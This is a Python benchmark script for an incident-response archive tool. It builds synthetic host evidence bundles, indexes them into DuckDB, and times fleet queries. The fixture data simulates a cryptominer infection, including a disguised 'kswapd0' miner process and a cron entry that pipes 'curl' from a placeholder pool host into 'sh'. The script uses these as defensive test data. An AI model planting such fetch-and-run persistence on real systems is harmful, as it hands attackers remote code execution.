"""Archive benchmark: N synthetic bundles (default 1,000) indexed into DuckDB, then the named
questions, against a plain-Python baseline that opens each zip and scans its JSONL.

The bundles are built from one template triage (300 processes, 120 sockets, 60 persistence
entries, findings and IOCs, its timeline) with varied hostnames, collection times, wallets,
pools and executable hashes, written by the real EvidenceWriter. Measured:

- index time (`irkit archive index --jobs J`, verification included) and the peak RSS of the
  largest process and of all of them (main, fork server, workers; psutil samples every 50 ms),
  at N/4, N/2 and N bundles: flat means bounded;
- each named question's latency on the archive (median of 3);
- the baseline: one pass over every bundle's records with zipfile and json, answering one
  question (the hosts carrying a wallet), which is what each question costs without an index.

    python benchmarks/archive.py [--bundles N] [--jobs J]

Writes benchmarks/out/archive.json and prints a Markdown table for docs/performance.md.
"""

import argparse
import contextlib
import json
import platform
import resource
import statistics
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

import psutil  # noqa: E402

from irkit.archive import questions  # noqa: E402
from irkit.archive.database import connect  # noqa: E402
from irkit.evidence.records import Finding  # noqa: E402
from irkit.evidence.writer import EvidenceWriter  # noqa: E402
from irkit.timeutil import utc_iso  # noqa: E402
from tests.reportbundles import jsonl, process  # noqa: E402

START = 1_764_000_000
WALLETS = [f"4{n:094d}" for n in range(40)]
POOLS = [f"pool{n}.example.invalid" for n in range(8)]


def template(n: int) -> dict[str, list[Any]]:
    """Host n's records: the same shape everywhere, values varied by n."""
    at = START + 37 * n
    procs = [
        process(
            100 + i,
            1,
            f"svc{i % 40}",
            [f"/usr/sbin/svc{i % 40}", "--flag", str(i)],
            exe_sha256=f"{i % 40:064x}",
            start_time=utc_iso(at - 86400 + i),
        )
        for i in range(300)
    ]
    sockets = [
        {
            "type": "socket",
            "proto": "tcp",
            "local_address": "10.0.0.5",
            "local_port": 30000 + i,
            "remote_address": f"198.51.100.{i % 250}",
            "remote_port": 443,
            "state": "ESTABLISHED",
            "pid": 100 + i,
            "process_name": f"svc{i % 40}",
            "flags": [],
        }
        for i in range(120)
    ]
    persistence = [
        {
            "type": "persistence",
            "mechanism": "systemd",
            "source": f"/etc/systemd/system/s{i}.service",
            "line": None,
            "owner": "root",
            "schedule": "multi-user.target",
            "command": f"/usr/sbin/svc{i}",
            "mtime": utc_iso(at - 10 * 86400 + i),
        }
        for i in range(60)
    ]
    iocs, findings = [], []
    if n % 3 == 0:  # a third of the fleet mines
        wallet, pool = WALLETS[n % len(WALLETS)], POOLS[n % len(POOLS)]
        procs.append(
            process(
                9999,
                1,
                "kswapd0",
                ["./kswapd0", "-o", pool, "-u", wallet],
                exe_sha256=f"{n % 7:064x}",
                start_time=utc_iso(at - 3600),
            )
        )
        iocs += [
            {"type": "ioc", "ioc_type": "wallet", "value": wallet},
            {"type": "ioc", "ioc_type": "pool-host", "value": pool},
        ]
        findings.append(
            Finding(
                title="likely miner: pid 9999",
                severity="critical",
                source="heuristic",
                pid=9999,
                time=utc_iso(at - 3600),
            )
        )
        persistence.append(
            {
                "type": "persistence",
                "mechanism": "cron",
                "source": "/etc/crontab",
                "line": 3,
                "owner": "root",
                "schedule": "*/5 * * * *",
                "command": f"curl -s http://{pool}/x | sh",
                "mtime": utc_iso(at),
            }
        )
    return {
        "records/processes.jsonl": procs,
        "records/sockets.jsonl": sockets,
        "records/persistence.jsonl": persistence,
        "records/iocs.jsonl": iocs,
        "records/findings.jsonl": findings,
    }


def write_fleet(directory: Path, count: int) -> float:
    start = time.perf_counter()
    directory.mkdir(parents=True, exist_ok=True)
    for n in range(count):
        with (directory / f"host-{n:05d}.zip").open("wb") as sink:
            writer = EvidenceWriter(sink, command_line=["irkit", "bench"])
            writer.host["hostname"] = f"host-{n:05d}"
            writer.started = utc_iso(START + 37 * n)
            for member, records in template(n).items():
                writer.write_bytes(member, jsonl(records), collector="bench")
            writer.close(complete=True)
    return time.perf_counter() - start


def index(bundles: list[Path], archive: Path, jobs: int) -> tuple[float, float, float, float]:
    """Index time (s), the peak RSS of the largest process and of all of them together (MiB:
    the main process, the fork server and its workers, sampled every 50 ms), and the CPU
    seconds of all of them (each process's last sample: on a machine shared with other work
    the CPU time says what indexing costs where the wall time says how busy the machine was)."""
    command = [
        sys.executable,
        "-m",
        "irkit",
        "archive",
        "index",
        *map(str, bundles),
        "-o",
        str(archive),
        "--jobs",
        str(jobs),
    ]
    start = time.perf_counter()
    main = psutil.Popen(command, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    largest = total = 0
    cpu: dict[int, float] = {}
    while main.poll() is None:
        sizes = []
        for each in [main, *main.children(recursive=True)]:
            with contextlib.suppress(psutil.Error):
                sizes.append(each.memory_info().rss)
                times = each.cpu_times()
                cpu[each.pid] = times.user + times.system
        largest, total = max(largest, *sizes, 0), max(total, sum(sizes))
        time.sleep(0.05)
    seconds = time.perf_counter() - start
    assert main.returncode == 0, f"index exited {main.returncode}"
    return seconds, largest / 2**20, total / 2**20, sum(cpu.values())


def baseline_hosts_with(bundles: list[Path], value: str) -> tuple[set[str], float]:
    """No index: open every zip, scan its records for the value. Returns the hosts and the
    CPU seconds (one process: its CPU time is its wall time on an idle core)."""
    start = time.process_time()
    hosts = set()
    for path in bundles:
        with zipfile.ZipFile(path) as zf:
            manifest = json.loads(zf.read("manifest.json"))
            for name in zf.namelist():
                if name.startswith("records/") and name.endswith(".jsonl"):
                    for line in zf.read(name).splitlines():
                        record = json.loads(line)
                        if record.get("type") == "ioc" and record.get("value") == value:
                            hosts.add(manifest["host"]["hostname"])
    return hosts, time.process_time() - start


def question_latencies(archive: Path) -> dict[str, float]:
    asked = {
        "hosts --ioc": (questions.HOSTS_BY_IOC, {"value": WALLETS[0]}),
        "hosts": (questions.FLEET, {}),
        "prevalence": (questions.PREVALENCE, {"min_hosts": 1}),
        "seen": (questions.SEEN, {"value": None}),
        "executables": (questions.EXECUTABLES, {"sha256": None, "min_hosts": 1}),
        "persistence": (questions.PERSISTENCE, {"min_hosts": 2}),
        "problems": (questions.PROBLEMS, {}),
        "first signs": (questions.FIRST_SIGNS, {}),
    }
    connection = connect(archive, read_only=True)
    latencies = {}
    try:
        for name, (sql, parameters) in asked.items():
            times = []
            for _ in range(3):
                start = time.perf_counter()
                questions.ask(connection, sql, parameters)
                times.append(time.perf_counter() - start)
            latencies[name] = statistics.median(times)
    finally:
        connection.close()
    return latencies


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bundles", type=int, default=1000)
    parser.add_argument("--jobs", type=int, default=2)
    args = parser.parse_args()
    results: dict[str, Any] = {
        "bundles": args.bundles,
        "jobs": args.jobs,
        "python": platform.python_version(),
        "runs": [],
    }
    with tempfile.TemporaryDirectory() as tmp:
        fleet = Path(tmp, "fleet")
        results["write_seconds"] = write_fleet(fleet, args.bundles)
        bundles = sorted(fleet.iterdir())
        results["bundle_bytes"] = sum(p.stat().st_size for p in bundles) // len(bundles)
        for count in sorted({max(1, args.bundles // 4), max(1, args.bundles // 2), args.bundles}):
            archive = Path(tmp, f"case-{count}.duckdb")
            seconds, largest, total, cpu = index(bundles[:count], archive, args.jobs)
            results["runs"].append(
                {
                    "bundles": count,
                    "index_seconds": seconds,
                    "index_cpu_seconds": cpu,
                    "peak_rss_mib": largest,
                    "peak_rss_all_mib": total,
                    "archive_bytes": archive.stat().st_size,
                }
            )
        expected = {
            f"host-{n:05d}" for n in range(args.bundles) if n % 3 == 0 and n % len(WALLETS) == 0
        }
        found, results["baseline_seconds"] = baseline_hosts_with(bundles, WALLETS[0])
        assert found == expected, "the baseline found other hosts"
        results["latency_seconds"] = question_latencies(archive)
        results["self_peak_rss_mib"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    out = REPO / "benchmarks" / "out"
    out.mkdir(exist_ok=True)
    (out / "archive.json").write_text(json.dumps(results, indent=1))
    print(json.dumps(results, indent=1))
    full = results["runs"][-1]
    print(
        "\n| bundles | index (s) | index CPU (s) | peak RSS, largest process (MiB) |"
        " all processes (MiB) | archive (MiB) |\n|---|---|---|---|---|---|"
    )
    for run in results["runs"]:
        print(
            f"| {run['bundles']} | {run['index_seconds']:.1f} | {run['index_cpu_seconds']:.1f} |"
            f" {run['peak_rss_mib']:.0f} | {run['peak_rss_all_mib']:.0f} |"
            f" {run['archive_bytes'] / 2**20:.1f} |"
        )
    baseline = results["baseline_seconds"]
    print(
        f"\nbaseline, one question by scanning every zip: {baseline:.2f} CPU s;"
        f" index / baseline: {full['index_seconds'] / baseline:.1f}x wall,"
        f" {full['index_cpu_seconds'] / baseline:.1f}x CPU"
    )
    print("\n| question | latency (ms) | baseline / latency |\n|---|---|---|")
    for name, seconds in results["latency_seconds"].items():
        print(f"| {name} | {seconds * 1000:.1f} | {results['baseline_seconds'] / seconds:.0f}x |")


if __name__ == "__main__":
    main()
